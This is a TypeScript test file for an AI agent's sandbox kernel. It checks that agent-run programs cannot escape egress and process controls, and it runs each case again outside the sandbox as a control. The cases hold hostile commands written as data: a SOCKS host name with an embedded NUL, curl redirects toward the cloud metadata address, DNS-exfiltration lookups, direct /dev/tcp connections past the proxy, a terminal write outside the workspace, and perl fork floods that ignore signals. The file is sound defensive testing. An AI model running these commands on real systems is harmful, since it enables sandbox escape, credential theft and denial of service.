/**
 * Programs with a way out, terminals that stay, and programs that do not end: by what the kernel's
 * drivers and its egress let them do. The control is the same program outside.
 */
import { spawn } from "node:child_process";
import { once } from "node:events";
import fs from "node:fs";
import path from "node:path";
import { setTimeout as sleep } from "node:timers/promises";
import type { RunView } from "@ioi/agent";
import { OperationError } from "@ioi/base";
import { commandLineOf, descendantsOf, isAlive, type ProcessId } from "../processes.ts";
import { ioi } from "../kernel.ts";
import {
  type KernelCase,
  type KernelPlace,
  metadataAddress,
  policyText,
  told,
} from "./kernel-place.ts";

const exec = (...argv: readonly string[]) => ({ target: "sys::exec", args: { argv } });

/** Programs may reach the site through egress, by the rule's own list. */
const networked = policyText.replace(
  'where.argv = { profile = "closed" }',
  'where.argv = { profile = "closed" }\nnetwork = [{ host = "site.test", port = 80 }]',
);

/** What a script of the session's folder said, started by the person with a way out to the site. */
const withNetwork = async (at: KernelPlace, lines: readonly string[]) => {
  const folder = at.folder();
  fs.writeFileSync(path.join(folder, "script.sh"), `${lines.join("\n")}\n`);
  at.policy(networked);
  try {
    const args = ["run", "--data", at.world.data, "--workspace", folder, "--json"];
    const { json, stderr } = await ioi([...args, "--", "bash", "script.sh"]);
    if (json === undefined) throw new OperationError("E_TEST", `no JSON: ${stderr}`);
    const view = json as RunView;
    return { view, said: view.actions[0]?.outcome?.content?.trim() ?? "" };
  } finally {
    at.policy(policyText);
  }
};

const proxy = "/dev/tcp/127.0.0.1/3128";

/** A name that is cut at NUL on its way would be the site's. */
const socksNul: KernelCase = {
  id: "nul/in-a-socks-host",
  run: async (at) => {
    const before = at.requests;
    const { view, said } = await withNetwork(at, [
      `exec 3<>${proxy}`,
      `printf '\\x05\\x01\\x00' >&3; head -c 2 <&3 >/dev/null`,
      `printf '\\x05\\x01\\x00\\x03\\x10site.test\\x00.other\\x00\\x50' >&3; head -c 2 <&3 | od -An -tx1`,
    ]);
    const sent = at.requests - before;
    // The control: what a proxy that stops at NUL would dial.
    await at.world.naive.fetch("http://site.test/");
    return {
      control: at.requests > before + sent,
      held: sent === 0 && /^05 0[1-9a-f]$/.test(said),
      expected: "refused by the proxy, nothing sent",
      actual: `${told(view)}: ${said}; ${sent} sent`,
    };
  },
};

const programRedirect: KernelCase = {
  id: "redirect-to-metadata/by-a-program",
  run: async (at) => {
    const url = `http://site.test/to?${encodeURIComponent(`http://${metadataAddress}/latest/`)}`;
    const before = at.metadata.connections;
    const { view, said } = await withNetwork(at, [
      `curl -sSL -m 9 -o /dev/null -w '%{http_code}' '${url}'`,
    ]);
    const got = at.metadata.connections - before;
    await at.world.naive.fetch(url);
    return {
      control: at.metadata.connections > before + got,
      held: got === 0,
      expected: "0 connections",
      actual: `${told(view)}: ${said}; ${got} connections`,
    };
  },
};

const namesByProgram: KernelCase = {
  id: "dns-exfiltration/by-a-program-with-a-network",
  run: async (at) => {
    const name = "what-was-read.other.test";
    const before = at.world.asked(name);
    const { view, said } = await withNetwork(at, [
      `getent hosts ${name} && echo found`,
      `curl -sS -m 9 http://${name}/`,
      `curl -sS -m 9 -x socks5h://127.0.0.1:3128 http://${name}/`,
      "echo tried",
    ]);
    const asked = at.world.asked(name) - before;
    await at.world.naive.addressOf(name);
    return {
      control: at.world.asked(name) > before + asked,
      held: asked === 0 && said.endsWith("tried"),
      expected: "asked 0 times",
      actual: `${told(view)}: ${said.slice(0, 200)}; asked ${asked}`,
    };
  },
};

const pastTheProxy: KernelCase = {
  id: "past-the-proxy/direct-connection",
  run: async (at) => {
    const { port } = at.world.loopback;
    const before = at.world.loopback.connections;
    const line = `exec 3<>/dev/tcp/127.0.0.1/${port}`;
    const { view, said } = await withNetwork(at, [line, "echo tried"]);
    const got = at.world.loopback.connections - before;
    const outside = spawn("/bin/bash", ["-c", line], { stdio: "ignore" });
    await once(outside, "exit");
    return {
      control: at.world.loopback.connections > before + got,
      held: got === 0 && said.endsWith("tried"),
      expected: "0 connections",
      actual: `${told(view)}: ${said.slice(0, 200)}; ${got} connections`,
    };
  },
};

/** What is typed there is recorded and not judged: its sandbox is what holds. */
const typed: KernelCase = {
  id: "persistent-terminal/typed-escape",
  run: async (at) => {
    const outside = at.folder();
    const folder = at.folder();
    const harm = path.join(outside, "harm.txt");
    const line = `echo begun > begun.txt; echo x > ${harm}\n`;
    const shell = (args: object) => ({ target: "sys::shell", args: { shell: 1, ...args } });
    at.policy(
      `${policyText}[[rule]]\nid = "shell"\neffect = "allow"\ntarget = ["sys::shell"]\nwhere.cwd = { glob = "scope:/**" }\n`,
    );
    try {
      const view = await at.run(
        "use a terminal",
        [shell({ do: "open" }), shell({ do: "type", input: line }), shell({ do: "close" })],
        folder,
      );
      const harmed = fs.existsSync(harm);
      const begun = fs.existsSync(path.join(folder, "begun.txt"));
      const control = spawn("/bin/sh", ["-c", line], { cwd: folder, stdio: "ignore" });
      await once(control, "exit");
      return {
        control: fs.existsSync(harm),
        held: begun && !harmed,
        expected: "begun in the folder, nothing written outside",
        actual: `${told(view)}; ${begun ? "begun" : "not begun"}, ${harmed ? "HARM" : "no harm"}`,
      };
    } finally {
      at.policy(policyText);
    }
  },
};

/** Programs of ours below the kernel that sleep for as long as nobody else's. */
const sleepersOf = (kernel: number): readonly ProcessId[] =>
  descendantsOf(kernel).filter((each) => commandLineOf(each) === "sleep 618");

const many = 150;
/** Leaves all of them behind. */
const forks = `for(1..${many}){ fork or exec "sleep","618" } print "started"`;
const deafness = `$SIG{$_}="IGNORE" for qw(TERM INT HUP QUIT); fork; exec "sleep","618"`;

/** The same outside, in a group that is ended afterwards; what of it is left when asked to end. */
const outside = async (script: string, asked: boolean): Promise<number> => {
  const child = spawn("/usr/bin/perl", ["-e", script], { detached: true, stdio: "ignore" });
  const pid = child.pid ?? 0;
  const group = (): readonly number[] =>
    fs
      .readdirSync("/proc")
      .filter((name) => /^\d+$/.test(name) && groupOf(name) === pid)
      .map(Number)
      .filter((each) => commandLineOf({ pid: each, started: "", parent: 0 }) === "sleep 618");
  if (!asked) await once(child, "exit");
  while (group().length < (asked ? 2 : many)) {
    await sleep(20);
  }
  if (asked) process.kill(-pid, "SIGTERM");
  const left = group().length;
  process.kill(-pid, "SIGKILL");
  return left;
};

const groupOf = (pid: string): number => {
  try {
    const stat = fs.readFileSync(`/proc/${pid}/stat`, "latin1");
    return Number(stat.slice(stat.lastIndexOf(")") + 2).split(" ")[2]);
  } catch {
    return 0;
  }
};

const forkBomb: KernelCase = {
  id: "programs-that-do-not-end/left-behind",
  run: async (at) => {
    const view = await at.run("run it", [exec("perl", "-e", forks)]);
    const said = view.actions[0]?.outcome?.content ?? "";
    const left = sleepersOf(at.kernelPid).length;
    return {
      control: (await outside(forks, false)) === many,
      held: said.includes("started") && left === 0 && view.actions[0]?.receipt !== null,
      expected: "started, 0 left, receipted",
      actual: `${told(view)}: ${said.trim()}; ${left} left`,
    };
  },
};

/** Runs until it is stopped; what of it is left then, and what its receipt says. */
const deaf: KernelCase = {
  id: "programs-that-do-not-end/ignore-signals",
  run: async (at) => {
    const folder = at.folder();
    const session = await at.desk.say("run it", folder);
    const running = at.desk.propose(session, folder, [exec("perl", "-e", deafness)]);
    let ended = false;
    const end = (): void => {
      ended = true;
    };
    running.then(end, end);
    while (!ended && sleepersOf(at.kernelPid).length < 2) {
      await sleep(20);
    }
    const sleepers = sleepersOf(at.kernelPid);
    const stop = await ioi(["stop", session, "--data", at.world.data]);
    const left = sleepers.filter(isAlive).length;
    const view = await running;
    const receipted = view.actions[0]?.receipt !== null;
    return {
      control: (await outside(deafness, true)) === 2,
      held: sleepers.length === 2 && left === 0 && stop.code === 0 && receipted,
      expected: "2 run; stopped: 0 left, receipted",
      actual: `${sleepers.length} run; stop ${stop.code}: ${left} left; ${told(view)}`,
    };
  },
};

export const programCases: readonly KernelCase[] = [
  socksNul,
  programRedirect,
  namesByProgram,
  pastTheProxy,
  typed,
  forkBomb,
  deaf,
];
